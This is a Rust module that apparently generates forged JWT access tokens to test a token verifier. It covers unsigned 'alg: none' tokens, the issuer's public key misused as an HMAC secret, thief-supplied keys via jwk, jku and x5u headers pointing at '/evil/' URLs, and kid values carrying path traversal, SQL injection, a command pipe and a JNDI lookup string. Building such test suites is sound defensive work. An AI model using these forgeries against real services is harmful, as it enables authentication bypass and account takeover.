//! Attacks by the header: no signature, shared secrets, keys that the token brings, names of keys, kinds of tokens.

use aws_lc_rs::hmac;
use aws_lc_rs::signature::KeyPair as _;
use serde_json::{Value, json};

use super::{Attack, Forge, Keys, b64, ec_header, pem, rsa_header};

impl Forge {
    /// `alg: none` in all spellings, with no signature and with somebody's.
    pub(super) fn unsigned(&self) -> Vec<Attack> {
        let mut all = Vec::new();
        let payload = b64(self.claims().to_string());
        let good = self.good();
        let signature = good.rsplit('.').next().unwrap();
        for alg in ["none", "None", "NONE", "nOnE", "none ", "", "null"] {
            let header = b64(json!({"alg": alg, "typ": "at+jwt"}).to_string());
            all.push((format!("alg `{alg}`, no signature"), format!("{header}.{payload}.")));
            all.push((
                format!("alg `{alg}`, the signature of another token"),
                format!("{header}.{payload}.{signature}"),
            ));
        }
        for (name, alg) in [
            ("null", json!(null)),
            ("a list", json!(["RS256"])),
            ("a list with none", json!(["none", "RS256"])),
            ("a number", json!(256)),
            ("an object", json!({"RS256": true})),
        ] {
            let header = json!({"alg": alg, "kid": "rsa"});
            all.push((format!("alg is {name}"), self.rs256(&header, &self.claims())));
        }
        all.push(("no alg".into(), self.rs256(&json!({"kid": "rsa"}), &self.claims())));
        for alg in
            ["rs256", "RS256 ", "RS256\u{0}", "PS256", "RS512", "RS1", "EdDSA", "ES256K", "RSA-OAEP", "dir"]
        {
            let header = json!({"alg": alg, "kid": "rsa"});
            all.push((format!("alg `{}`", alg.escape_debug()), self.rs256(&header, &self.claims())));
        }
        all
    }

    /// The public key, which everybody knows, as the secret of an HMAC.
    pub(super) fn shared_secrets(&self) -> Vec<Attack> {
        let jwk = self.keys.rsa_jwk();
        let spki = self.keys.spki();
        let pkcs1 = self.keys.rsa.public_key().as_ref().to_vec();
        let secrets: Vec<(&str, Vec<u8>)> = vec![
            ("PEM (SPKI)", pem("PUBLIC KEY", &spki).into_bytes()),
            ("PEM without its last line end", pem("PUBLIC KEY", &spki).trim_end().as_bytes().to_vec()),
            ("PEM (PKCS#1)", pem("RSA PUBLIC KEY", &pkcs1).into_bytes()),
            ("DER (SPKI)", spki),
            ("DER (PKCS#1)", pkcs1),
            ("JWK", jwk.to_string().into_bytes()),
            ("JWK set", self.keys.jwks().to_string().into_bytes()),
            ("modulus in base64", jwk["n"].as_str().unwrap().as_bytes().to_vec()),
            ("empty text", Vec::new()),
        ];
        let mut all = Vec::new();
        for (name, secret) in secrets {
            let header = json!({"alg": "HS256", "kid": "rsa", "typ": "at+jwt"});
            let token = hmac_token(hmac::HMAC_SHA256, &secret, &header, &self.claims());
            all.push((format!("HS256 with the issuer's {name} as secret"), token));
        }
        let secret = pem("PUBLIC KEY", &self.keys.spki());
        for (alg, algorithm) in [("HS384", hmac::HMAC_SHA384), ("HS512", hmac::HMAC_SHA512)] {
            let header = json!({"alg": alg, "kid": "rsa"});
            all.push((
                format!("{alg} with the issuer's public key as secret"),
                hmac_token(algorithm, secret.as_bytes(), &header, &self.claims()),
            ));
        }
        let disguised = hmac_token(hmac::HMAC_SHA256, secret.as_bytes(), &rsa_header(), &self.claims());
        all.push(("an HMAC under alg RS256".into(), disguised));
        let disguised = hmac_token(hmac::HMAC_SHA256, secret.as_bytes(), &ec_header(), &self.claims());
        all.push(("an HMAC under alg ES256".into(), disguised));
        all
    }

    /// Keys that the token brings along, or tells where to find.
    pub(super) fn own_keys(&self, url: &str) -> Vec<Attack> {
        let thief = Keys::make();
        let claims = self.claims();
        let certificate = rcgen::generate_simple_self_signed(vec!["issuer.example.org".into()]).unwrap();
        let chain = json!([base64::Engine::encode(
            &base64::engine::general_purpose::STANDARD,
            certificate.cert.der()
        )]);
        let brought = [
            ("jwk", thief.rsa_jwk()),
            ("jku", json!(format!("{url}/evil/jwks"))),
            ("x5u", json!(format!("{url}/evil/certificate"))),
            ("x5c", chain),
        ];
        let mut all = vec![
            (
                "signed with a key of the thief's own".into(),
                thief.rs(&rsa_header().to_string(), &claims.to_string()),
            ),
            ("the same on a curve".into(), thief.es(&ec_header().to_string(), &claims.to_string())),
        ];
        for (name, value) in brought {
            let mut header = rsa_header();
            header[name] = value;
            all.push((
                format!("`{name}` in the header, signed with that key"),
                thief.rs(&header.to_string(), &claims.to_string()),
            ));
            // Even where the issuer itself signed it.
            all.push((format!("`{name}` in the header of a good token"), self.rs256(&header, &claims)));
        }
        let header = json!({"alg": "RS256", "jwk": thief.rsa_jwk(), "kid": thief.rsa_jwk()["n"]});
        all.push(("`jwk` and a kid of its own".into(), thief.rs(&header.to_string(), &claims.to_string())));
        let mut inside = claims.clone();
        inside["jwk"] = thief.rsa_jwk();
        inside["jwks_uri"] = json!(format!("{url}/evil/jwks"));
        all.push(("a key among the claims".into(), thief.rs(&rsa_header().to_string(), &inside.to_string())));
        all
    }

    /// Names of keys that lead elsewhere, or nowhere.
    pub(super) fn names_of_keys(&self) -> Vec<Attack> {
        let thief = Keys::make();
        let mut all = Vec::new();
        let long = "k".repeat(4_000);
        for (name, kid) in [
            ("a path", json!("../../../../dev/null")),
            ("an absolute path", json!("/dev/null")),
            ("a URL", json!("http://127.0.0.1/evil")),
            ("SQL", json!("x' UNION SELECT 'secret' --")),
            ("a command", json!("rsa|/bin/true")),
            ("a template", json!("${jndi:ldap://127.0.0.1/x}")),
            ("a NUL", json!("rsa\u{0}")),
            ("4,000 letters", json!(long)),
            ("empty", json!("")),
            ("a number", json!(1)),
            ("null", json!(null)),
            ("a list", json!(["rsa"])),
            ("an object", json!({"$ne": null})),
            ("in capitals", json!("RSA")),
        ] {
            let header = json!({"alg": "RS256", "kid": kid});
            all.push((format!("kid is {name}"), thief.rs(&header.to_string(), &self.claims().to_string())));
        }
        // An HMAC with the empty secret that `/dev/null` would give.
        let header = json!({"alg": "HS256", "kid": "/dev/null"});
        all.push((
            "kid is /dev/null, an HMAC without a secret".into(),
            hmac_token(hmac::HMAC_SHA256, b"", &header, &self.claims()),
        ));
        let header = json!({"alg": "RS256", "kid": "ec"});
        all.push(("kid of a key of another kind".into(), self.rs256(&header, &self.claims())));
        let header = json!({"alg": "ES256", "kid": "rsa"});
        all.push(("alg ES256 with the kid of an RSA key".into(), self.es256(&header, &self.claims())));
        all.push((
            "no kid, the thief's key".into(),
            thief.rs(r#"{"alg":"RS256"}"#, &self.claims().to_string()),
        ));
        all
    }

    /// Other tokens than access tokens, all well signed.
    pub(super) fn kinds(&self) -> Vec<Attack> {
        let mut all = Vec::new();
        for typ in [
            "logout+jwt",
            "secevent+jwt",
            "dpop+jwt",
            "id_token",
            "JWE",
            "oauth-authz-req+jwt",
            "application/jwt+x",
            "",
        ] {
            let header = json!({"alg": "RS256", "kid": "rsa", "typ": typ});
            all.push((format!("typ `{typ}`"), self.rs256(&header, &self.claims())));
        }
        for (name, typ) in [("a list", json!(["at+jwt"])), ("null", Value::Null), ("a number", json!(1))] {
            let header = json!({"alg": "RS256", "kid": "rsa", "typ": typ});
            all.push((format!("typ is {name}"), self.rs256(&header, &self.claims())));
        }
        for (name, changes) in [
            ("an ID token with nonce", json!({"nonce": "n-0S6_WzA2Mj"})),
            ("an ID token with at_hash", json!({"at_hash": "77QmUPtjPfzWtF2AnpK9RQ"})),
            ("an ID token with c_hash", json!({"c_hash": "LDktKdoQak3Pk0cnXxCltA"})),
            ("an ID token as Keycloak marks it", json!({"typ": "ID"})),
            ("a refresh token as Keycloak marks it", json!({"typ": "Refresh"})),
            ("an offline token as Keycloak marks it", json!({"typ": "Offline"})),
            ("a logout token", json!({"events": {"http://schemas.openid.net/event/backchannel-logout": {}}})),
            ("an ID token as Cognito marks it", json!({"token_use": "id"})),
            ("`typ` among the claims is a list", json!({"typ": ["Bearer"]})),
        ] {
            all.push((name.into(), self.rs256(&rsa_header(), &self.with(changes))));
        }
        all
    }

    /// Headers that change how a token is to be read.
    pub(super) fn rules(&self) -> Vec<Attack> {
        let mut all = Vec::new();
        for (name, value) in [
            ("crit", json!(["exp"])),
            ("crit", json!([])),
            ("b64", json!(false)),
            ("zip", json!("DEF")),
            ("enc", json!("A256GCM")),
            ("cty", json!("JWT")),
            ("p2c", json!(2_000_000_000)),
            ("epk", json!({"kty": "EC"})),
        ] {
            let mut header = rsa_header();
            header[name] = value.clone();
            all.push((format!("`{name}`: {value} in the header"), self.rs256(&header, &self.claims())));
        }
        // RFC 7797: the payload as it is, not encoded.
        let header = b64(json!({"alg": "RS256", "kid": "rsa", "b64": false, "crit": ["b64"]}).to_string());
        let payload = self.claims().to_string().replace('.', "\\u002e");
        let message = format!("{header}.{payload}");
        let signature = b64(self.keys.rsa_sign(&aws_lc_rs::signature::RSA_PKCS1_SHA256, &message));
        all.push(("a payload that is not encoded".into(), format!("{message}.{signature}")));
        let nested = json!(self.good()).to_string();
        all.push(("a token in a token".into(), self.keys.rs(r#"{"alg":"RS256","kid":"rsa"}"#, &nested)));
        all.push((
            "a token in a token, bare".into(),
            self.keys.rs(r#"{"alg":"RS256","kid":"rsa"}"#, &self.good()),
        ));
        all
    }
}

fn hmac_token(algorithm: hmac::Algorithm, secret: &[u8], header: &Value, claims: &Value) -> String {
    let message = format!("{}.{}", b64(header.to_string()), b64(claims.to_string()));
    let tag = hmac::sign(&hmac::Key::new(algorithm, secret), message.as_bytes());
    format!("{message}.{}", b64(tag.as_ref()))
}
